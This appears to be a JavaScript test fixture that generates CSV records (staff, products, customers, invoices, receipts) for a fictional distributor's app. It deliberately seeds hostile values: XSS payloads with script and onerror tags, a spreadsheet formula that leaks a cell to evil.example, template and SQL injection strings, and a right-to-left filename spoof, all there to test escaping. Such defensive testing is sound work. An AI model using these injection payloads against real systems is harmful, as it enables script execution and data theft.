// The books of a company with three teams, as CSV files. North is a company as one would like to show it: its pages are the
// screenshots. In South names and notes are hostile. West has twenty visits to review and nothing else.

import { writeFile } from "node:fs/promises";
import { join } from "node:path";

export const ZONE = "Asia/Shanghai";

/** A day in the company's time zone, so many days from today. */
export function day(offset = 0) {
  const at = new Date(Date.now() + offset * 86_400_000);
  return new Intl.DateTimeFormat("sv-SE", { timeZone: ZONE }).format(at);
}

/** What must be shown as text wherever it appears. */
export const HOSTILE = {
  customer: "C-901",
  name: `<img src=x onerror="window.hacked=1"> مرحبا \u202e‮txt.exe\u202c 🥖 {{7*7}} </title><script>window.hacked=1</script>`,
  contact: `"><svg onload=window.hacked=1>`,
  formula: "C-902",
  formulaName: `=HYPERLINK("http://evil.example/?x="&A1,"paid")`,
  long: "C-903",
  longName: "长".repeat(10_000),
  longWord: "W".repeat(10_000),
  note: `<b onmouseover=window.hacked=1>bold</b> \u200f(עברית) 🚚🚚 '; DROP TABLE notes; -- \u0000`.replace("\u0000", ""),
};

const PEOPLE = [
  ["gao", "高远", "administrator", "", ""],
  ["fang", "方敏", "finance", "gao", ""],
  ["xu", "许会计", "finance", "gao", ""],
  ["chen", "陈静", "supervisor", "gao", "North"],
  ["sun", "Sunniva <i>Sol</i>", "supervisor", "gao", "South"],
  ["he", "何平", "supervisor", "gao", "West"],
  ["lina", "李娜", "rep", "chen", "North"],
  ["wei", "魏强 Will", "rep", "chen", "North"],
  ["zhou", "周师傅", "driver", "chen", "North"],
  ["zhao", `Zhao "><script>window.hacked=1</script>`, "rep", "sun", "South"],
  ["ma", "马可 Marco", "rep", "he", "West"],
];

const PRODUCTS = [
  ["P-1", "苹果汁 1 L × 12", "箱", "118.00", "饮料"],
  ["P-2", "矿泉水 550 ml × 24", "箱", "36.50", "饮料"],
  ["P-3", "花生油 5 L", "桶", "102.00", "粮油"],
  ["P-4", "东北大米 25 kg", "袋", "165.00", "粮油"],
  ["P-5", "Oat biscuits 400 g × 20", "箱", "240.00", "食品"],
  ["P-6", "鲜牛奶 950 ml × 10", "箱", "129.00", "乳品"],
];

/** So many days ago was the middle of last month, whatever day it is today: what the statements are about. */
const LAST_MONTH = Number(day().slice(-2)) + 13;

// Code, name, contact, territory, rep, grade, limit, and the invoices: amount, age in days, paid share.
const CUSTOMERS = [
  ["C-101", "北京永辉超市（朝阳店）", "王芳", "North", "lina", "A", "80000", [[18600, 95, 1], [24350.5, LAST_MONTH + 2, 1], [21480, LAST_MONTH, 0]]],
  ["C-102", "Café Ñandú & Söhne", "Jürgen Öst", "North", "lina", "B", "20000", [[7420, 80, 1], [6890.4, LAST_MONTH, 0.5], [5120, 12, 0]]],
  ["C-103", "华联便利店 望京店", "刘洋", "North", "lina", "B", "15000", [[4310, 70, 1], [3980, 40, 0], [4105.2, 9, 0]]],
  ["C-104", "金灯笼餐厅 Golden Lantern", "孙丽", "North", "lina", "C", "12000", [[5600, 130, 0], [4820, 58, 0], [1390, 20, 0]]],
  ["C-105", "三源里菜市场 14 号摊", "赵大爷", "North", "lina", "C", "6000", [[1280, 33, 1], [960.8, 10, 0]]],
  ["C-106", "مخبز النور Al-Noor Bakery", "يوسف", "North", "lina", "B", "18000", [[8800, 66, 1], [9150, 31, 0]]],
  ["C-107", "海淀大学第二食堂", "钱老师", "North", "lina", "A", "120000", [[32600, 88, 1], [41200, 59, 1], [38750, 25, 0]]],
  ["C-108", "Lucky Star Mini Mart", "Tom Lee", "North", "wei", "D", "0", []],
  ["C-109", "顺义物流批发中心", "郑经理", "North", "wei", "A", "150000", [[52300, 75, 1], [61480, 46, 0.7], [48900, 15, 0]]],
  ["C-110", "Old Town Hotel", "Ann O'Neill", "North", "wei", "B", "30000", [[12100, 110, 0], [9800, 64, 0], [6450, 22, 0]]],
  ["C-111", "望和园社区团购", "吴姐", "North", "wei", "C", "8000", [[2310, 18, 0]]],
  ["C-112", "通州早餐连锁", "林涛", "North", "wei", "B", "25000", [[10980, 51, 1], [11620, 21, 0]]],
  [HOSTILE.customer, HOSTILE.name, HOSTILE.contact, "South", "zhao", "B", "9000", [[3100, LAST_MONTH + 1, 0], [450, LAST_MONTH, 0]]],
  [HOSTILE.formula, HOSTILE.formulaName, "@SUM(1+1)", "South", "zhao", "B", "9000", [[2500, 50, 0]]],
  [HOSTILE.long, HOSTILE.longName, HOSTILE.longWord.slice(0, 300), "South", "zhao", "C", "9000", [[1200, 5, 0]]],
  ["C-801", "银川清真食品行", "马老板", "West", "ma", "B", "50000", []],
];

const TERMS = { A: 60, B: 30, C: 15, D: 0 };

const quoted = (value) => (/[",\n\r]/.test(String(value)) ? `"${String(value).replaceAll('"', '""')}"` : String(value));
const csv = (head, rows) => [head, ...rows].map((row) => row.map(quoted).join(",")).join("\n") + "\n";

/** Writes the files that mapping.toml reads. */
export async function writeBooks(folder) {
  const customers = [];
  const invoices = [];
  const receipts = [];
  for (const [index, [code, name, contact, territory, rep, grade, limit, owed]] of CUSTOMERS.entries()) {
    const valid = code === "C-110" ? day(-6) : day(200 - index);
    customers.push([
      code, name, contact, `010-6500-${1000 + index * 37}`, `朝阳路 ${index + 8} 号`, territory, rep, grade, limit,
      day(-200), valid, (39.9 + index / 200).toFixed(4), (116.4 + index / 150).toFixed(4),
    ]);
    for (const [position, [amount, age, paid]] of owed.entries()) {
      const number = `${code.slice(2)}-${String(position + 1).padStart(3, "0")}`;
      invoices.push([number, code, day(-age), day(TERMS[grade] - age), amount.toFixed(2)]);
      if (paid > 0) {
        const valued = Math.max(1, age - TERMS[grade] + (index % 3) * 4 - 2);
        receipts.push([`BK-${number}`, code, day(-Math.min(valued, age)), (amount * paid).toFixed(2), number]);
      }
    }
  }
  const files = {
    "people.csv": csv(["login", "name", "roles", "supervisor", "territory"], PEOPLE),
    "products.csv": csv(["number", "name", "unit", "price", "group"], PRODUCTS),
    "customers.csv": csv(
      ["code", "name", "contact", "phone", "address", "territory", "rep", "grade", "limit", "assessed_on", "valid_until", "latitude", "longitude"],
      customers,
    ),
    "invoices.csv": csv(["number", "customer", "invoiced_on", "due_on", "amount"], invoices),
    "disputes.csv": csv(["invoice", "opened_on", "reason"], [["104-002", day(-30), "两箱漏液 two boxes leaked"]]),
    "receipts.csv": csv(["reference", "customer", "valued_on", "amount", "pays"], receipts),
  };
  for (const [name, text] of Object.entries(files)) await writeFile(join(folder, name), text);
}

/** Where a customer is, as the books say. */
export function placeOf(code) {
  const index = CUSTOMERS.findIndex((it) => it[0] === code);
  return `${(39.9 + index / 200).toFixed(4)},${(116.4 + index / 150).toFixed(4)}`;
}

/** Everybody who signs in to the pages, and as what. */
export const READERS = { administrator: "gao", finance: "fang", supervisor: "chen", south: "sun", west: "he" };
